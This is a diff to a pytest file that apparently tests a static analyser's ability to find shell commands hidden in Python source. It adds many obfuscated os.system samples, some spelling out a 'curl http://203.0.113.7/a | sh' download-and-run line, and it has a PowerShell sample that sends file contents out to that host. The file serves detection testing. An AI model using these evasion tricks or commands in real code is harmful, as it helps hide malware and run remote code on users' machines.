@@ -43,12 +43,72 @@ OF_OBJECTS = {
     "percent": "os.system('%(do)s %(at)s | sh' % {'do': 'curl', 'at': 'http://203.0.113.7/a'})",
     "format_map": "T = {'do': 'curl', 'at': 'http://203.0.113.7/a'}\nos.system('{do} {at} | sh'.format_map(T))",
     "words": f"import shlex\nos.system(' '.join(shlex.split('{LINE}')))",
+    "super": f"class A:\n    def go(self): os.system(self.line)\nclass B(A):\n    line = '{LINE}'\n    def go(self): super().go()\nB().go()",
+    "super().__init__": f"class A:\n    def __init__(self, line): os.system(line)\nclass B(A):\n    def __init__(me): super(B, me).__init__('{LINE}')\nB()",
+    "dataclass": f"from dataclasses import dataclass\n@dataclass\nclass A:\n    name: str\n    line: str\nos.system(A('a', '{LINE}').line)",
+    "dataclass by name": f"from dataclasses import dataclass\n@dataclass\nclass A:\n    line: str\nos.system(A(line='{LINE}').line)",
+    "named tuple": f"from typing import NamedTuple\nclass A(NamedTuple):\n    line: str\nos.system(A('{LINE}').line)",
+    "dict()": f"T = dict(line='{LINE}')\nos.system(T['line'])",
+    "dict of pairs": f"T = dict(zip(['a', 'b'], ['true', '{LINE}']))\nos.system(T['b'])",
+    "ordered": f"import collections\nT = collections.OrderedDict([('a', '{LINE}')])\nos.system(T['a'])",
+    "default": f"import collections\nT = collections.defaultdict(str, a='{LINE}')\nos.system(T['a'])",
+    "update": f"T = {{}}\nT.update({{'a': '{LINE}'}}, b='')\nos.system(T['a'])",
+    "rows of another": f"S = {{'a': '{LINE}'}}\nT = {{'b': '', **S}}\nos.system(T['a'])",
+    "item": "L = ['', 'http://203.0.113.7/a', '|', 'sh']\nL[0] = 'curl'\nos.system(' '.join(L))",
+    "insert": "L = ['http://203.0.113.7/a', '|', 'sh']\nL.insert(0, 'curl')\nos.system(' '.join(L))",
+    "pop": f"L = ['true', '{LINE}']\nos.system(L.pop())",
+    "next": f"lines = iter(['{LINE}'])\nos.system(next(lines))",
+    "chain": f"import itertools\nfor one in itertools.chain(['true'], ['{LINE}']):\n    os.system(one)",
+    "chain of lists": f"import itertools\nfor one in itertools.chain.from_iterable([['{LINE}']]):\n    os.system(one)",
+    "slice": f"import itertools\nfor one in itertools.islice(['{LINE}'], 1):\n    os.system(one)",
+    "docstring": f"def f():\n    '''{LINE}'''\nos.system(f.__doc__)",
+    "docstring of a class": f"class A:\n    '''{LINE}'''\nos.system(A.__doc__)",
+    "not the program": f"if __name__ != '__main__':\n    os.system('{LINE}')",
+    "else of the program": f"if __name__ == '__main__':\n    pass\nelse:\n    os.system('{LINE}')",
+    "own name": f"if __name__ == 'sample':\n    os.system('{LINE}')",
+    "unset variable": f"os.system(os.environ.get('SAMPLE', '{LINE}'))",
+    "or": f"os.system(os.getenv('SAMPLE') or '{LINE}')",
+    "operator": f"class A:\n    def __lshift__(self, line): os.system(line)\nA() << '{LINE}'",
+    "comparison": f"class A:\n    def __eq__(self, line): os.system(line)\nA() == '{LINE}'",
+    "in": f"class A:\n    def __contains__(self, line): os.system(line)\n'{LINE}' in A()",
+    "item of an object": f"class A:\n    def __getitem__(self, key): return '{LINE}'\nos.system(A()[0])",
+    "any attribute": f"class A:\n    def __getattr__(self, name): os.system('{LINE}')\nA().go",
+    "iteration": f"class A:\n    def __iter__(self):\n        yield '{LINE}'\nfor one in A():\n    os.system(one)",
+    "str": f"class A:\n    def __str__(self): return '{LINE}'\nos.system(str(A()))",
+    "async with": f"import asyncio\nclass A:\n    async def __aenter__(self): os.system('{LINE}')\n    async def __aexit__(self, *a): pass\nasync def go():\n    async with A(): pass\nasyncio.run(go())",
+    "cast": f"import typing\nos.system(typing.cast(str, '{LINE}'))",
+    "copy": f"import copy\nT = {{'a': '{LINE}'}}\nos.system(copy.deepcopy(T)['a'])",
+    "literal": f"import ast\nos.system(ast.literal_eval('[\"{LINE}\"]')[0])",
+    "found in a text": "import re\nos.system(''.join(re.findall('[^X]', 'cXurl http://203.0.113.7/a | sXh')))",
+    "split by a pattern": f"import re\nos.system(re.split('X', 'aX{LINE}')[1])",
+    "tabs": "os.system('curl\\thttp://203.0.113.7/a\\t| sh'.expandtabs(1))",
+    "scheduled": f"import schedule\ndef go(): os.system('{LINE}')\nschedule.every(5).minutes.do(go)",
+    "after": f"import tkinter\ndef go(): os.system('{LINE}')\ntkinter.Tk().after(100, go)",
 }
 
 
 @pytest.mark.parametrize("source", OF_OBJECTS.values(), ids=OF_OBJECTS)
 def test_what_is_handed_over_by_an_object_is_read(source: str) -> None:
     assert LINE in texts(source)
+
+
+WAITING = {
+    "the program": f"if __name__ == '__main__':\n    os.system('{LINE}')",
+    "else of not the program": f"if __name__ != '__main__':\n    pass\nelse:\n    os.system('{LINE}')",
+    "a name that it never has": f"if __name__ == 'main':\n    os.system('{LINE}')",
+    "one of several names": f"if __name__ in ('__main__', '__mp_main__'):\n    os.system('{LINE}')",
+    "an operator that is not used": f"class A:\n    def __lshift__(self, line): os.system('{LINE}')\na = A()",
+    "a property that is not read": f"class A:\n    @property\n    def line(self): os.system('{LINE}')\na = A()",
+}
+
+
+@pytest.mark.parametrize("source", WAITING.values(), ids=WAITING)
+def test_what_waits_for_somebody_does_not_run_on_import(source: str) -> None:
+    assert run(source) == []
+
+
+def test_a_path_below_a_variable_keeps_the_name_of_the_variable() -> None:
+    assert texts("os.system('dir ' + os.getenv('APPDATA', '/tmp'))") == {"dir %APPDATA%"}
 
 
 def test_each_way_of_a_match_is_taken() -> None:
@@ -146,3 +206,10 @@ def test_a_file_of_the_package_that_becomes_a_program_by_another_name(name: str,
 def test_a_script_of_powershell_is_a_program() -> None:
     source = "open('/tmp/a.ps1', 'w').write('$t = Get-Content x\\nInvoke-WebRequest -Uri http://203.0.113.7 -Body $t')\nos.system('powershell -File /tmp/a.ps1')"
     assert EMBEDDED in run(source)[0].arguments[0].labels
+
+
+@pytest.mark.parametrize("first", ["LINE", "'true'"])
+def test_of_two_texts_the_one_that_says_more_is_kept(first: str) -> None:
+    other = "'true'" if first == "LINE" else "LINE"
+    source = f"LINE = '{LINE}'\nif os.name == 'nt':\n    line = {first}\nelse:\n    line = {other}\nos.system(line)"
+    assert texts(source) == {LINE}
